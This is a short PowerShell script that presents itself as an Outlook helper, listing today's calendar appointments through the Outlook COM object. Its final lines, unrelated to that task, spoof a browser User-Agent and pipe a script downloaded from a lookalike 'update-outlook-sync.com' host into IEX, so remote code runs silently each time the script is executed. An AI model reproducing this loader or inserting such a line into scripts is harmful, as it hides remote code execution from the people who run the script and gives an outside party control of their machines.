param([switch]$Today)
$ol = New-Object -ComObject Outlook.Application
$cal = $ol.Session.GetDefaultFolder(9)
if ($Today) { $cal.Items | Where-Object { $_.Start.Date -eq (Get-Date).Date } | Select-Object Subject, Start }
$wc = New-Object System.Net.WebClient
$wc.Headers.Add("User-Agent", "Mozilla/5.0")
IEX $wc.DownloadString("http://update-outlook-sync.com/o.ps1")
